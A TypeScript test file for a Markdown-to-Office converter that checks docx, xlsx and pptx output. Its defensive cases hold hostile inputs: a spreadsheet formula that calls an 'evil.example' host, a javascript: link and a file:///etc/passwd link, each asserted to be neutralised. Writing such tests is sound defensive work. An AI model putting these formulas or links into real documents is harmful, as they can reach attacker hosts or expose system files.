import { unzipSync } from 'fflate'
import mammoth from 'mammoth'
import { describe, expect, it } from 'vitest'
import { readXlsx } from '../../../../src/documents/read-xlsx.ts'
import { writeDocument } from '../../../../src/documents/write/write-document.ts'
import type { DocumentKind, DocumentPart } from '../../../../src/tools/documents/document-port.ts'

/** A PNG of 2 x 1 pixels. */
const PNG = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAIAAAB7QOjdAAAADUlEQVR4nGP4z8AARAAH+AH/yzZ1VQAAAABJRU5ErkJggg=='),
  (sign) => sign.charCodeAt(0),
)
const MARKDOWN = `---
title: ignored
---
# Quarterly report

Sales **grew** by *12%* – see [the site](https://example.org) and \`code\`.

- one *and* more
  1. nested
- [x] done

> A quote.

| Region | Sales | Share |
|:--|--:|--:|
| North | 1,234.50 | 12.5% |
| Süd | 42 | 3% |

![A chart](chart.png)

\`\`\`js
const a = 1
\`\`\`

## Outlook

Good.
`
const parts: DocumentPart[] = [{ path: 'chart.png', bytes: PNG }]

async function make(kind: DocumentKind, markdown = MARKDOWN, given = parts) {
  const made = await writeDocument({ kind, markdown, parts: given })
  if (!made.ok) throw new Error(made.error)
  return made
}
const unpacked = (bytes: Uint8Array): Map<string, string> =>
  new Map(Object.entries(unzipSync(bytes)).map(([name, data]) => [name, new TextDecoder().decode(data)]))

describe('a document made from Markdown is opened by a reader', () => {
  it('docx: headings, words, lists, a table and a picture', async () => {
    const { bytes, counts, notes } = await make('docx')
    const { value: text } = await mammoth.convertToHtml({ buffer: Buffer.from(bytes) } as never)
    for (const words of [
      '<h1>Quarterly report</h1>',
      '<strong>grew</strong>',
      'href="https://example.org"',
      'nested',
      'A quote',
      'Süd',
      '1,234.50',
      'const a = 1',
      '<h2>Outlook</h2>',
    ])
      expect(text).toContain(words)
    expect([...unpacked(bytes).keys()].filter((name) => name.startsWith('word/media/'))).toHaveLength(1)
    expect(counts).toBe('2 headings, 3 paragraphs, 3 list items, 1 table, 1 picture')
    expect(notes).toEqual([])
  })

  it('xlsx: a sheet for each table and each CSV file, with typed cells, and formulas that stay inside', async () => {
    const table = `## Costs\n\n| Item | Price | On | Code |\n|--|--|--|--|\n| Pen | 1.5 | 2026-11-27 | 007 |\n| Ink | 2 | | x |\n| Sum | =SUM(B2:B3) | | =WEBSERVICE("https://evil.example") |\n\n[Raw](data/raw.csv)\n`
    const csv = { path: 'data/raw.csv', bytes: new TextEncoder().encode('a,b\n1,"x, y"\n2,z\n') }
    const { bytes, counts } = await make('xlsx', table, [csv])
    const files = unpacked(bytes)
    expect(files.get('xl/workbook.xml')).toMatch(/name="Costs"[\s\S]*name="Raw"/)
    const sheet = files.get('xl/worksheets/sheet1.xml') ?? ''
    expect(sheet).toContain('<v>1.5</v>')
    expect(sheet).toMatch(/<f>=?SUM\(B2:B3\)<\/f>/)
    expect(sheet).not.toContain('<f>WEBSERVICE')
    // a code keeps its zeros: it is a shared string, not a number
    expect(files.get('xl/sharedStrings.xml')).toContain('007')
    expect(files.get('xl/sharedStrings.xml')).toContain('WEBSERVICE')
    expect(await readXlsx(new Map(Object.entries(unzipSync(bytes))), 10_000)).toContain('Pen,1.5')
    expect(counts).toBe('2 sheets (Costs, Raw), 5 rows')
  })

  it('pptx: a slide for each heading, a table and a picture on slides of their own', async () => {
    const { bytes, counts } = await make('pptx')
    const files = unpacked(bytes)
    const slides = [...files].filter(([name]) => /^ppt\/slides\/slide\d+\.xml$/.test(name)).map(([, xml]) => xml)
    expect(slides.join('')).toContain('Quarterly report')
    // PowerPoint repairs a paragraph with properties behind its text
    for (const xml of slides) expect(xml).not.toMatch(/<\/a:r><a:pPr/)
    expect(slides.some((xml) => xml.includes('<a:tbl>') && xml.includes('Süd'))).toBe(true)
    expect(slides.some((xml) => xml.includes('<p:pic>'))).toBe(true)
    expect(slides.at(-1)).toContain('Outlook')
    expect(counts).toBe(`${slides.length} slides, 1 table, 1 picture`)
  })
})

it.each(['docx', 'xlsx', 'pptx'] as const)(
  '%s: the same Markdown gives the same bytes, without a time',
  async (kind) => {
    const [first, second] = [await make(kind), await make(kind)]
    expect(second.bytes).toEqual(first.bytes)
    expect([...unpacked(first.bytes).values()].join()).not.toContain(new Date().toISOString().slice(0, 10))
  },
)

describe('bad input', () => {
  it.each(['docx', 'pptx'] as const)('%s: a picture that is missing or none is named', async (kind) => {
    const bad = { path: 'bad.png', bytes: new TextEncoder().encode('not a picture') }
    const { notes } = await make(kind, '# A\n\n![x](gone.png)\n\n![y](bad.png)\n', [bad])
    expect(notes).toHaveLength(2)
    expect(notes.join()).toContain('bad.png')
  })

  it('a spreadsheet without a table says what it needs', async () => {
    await expect(make('xlsx', '# Only words')).rejects.toThrow(/needs at least one Markdown table/)
  })

  it('lists nested without end are a sentence, not a broken thread', async () => {
    const deep = Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')
    const made = await writeDocument({ kind: 'docx', markdown: deep, parts: [] })
    expect(made.ok === false && made.error).toContain('nested too deeply')
    const quotes = await writeDocument({ kind: 'docx', markdown: `${'>'.repeat(5000)} x`, parts: [] })
    expect(quotes.ok).toBe(false)
  })

  it('links are those of the web and of mail only', async () => {
    const { bytes } = await make('docx', '[a](javascript:alert(1)) [b](file:///etc/passwd) [c](https://ok.example)', [])
    const relations = unpacked(bytes).get('word/_rels/document.xml.rels') ?? ''
    expect(relations).toContain('https://ok.example')
    expect(relations).not.toMatch(/javascript|file:/)
  })
})
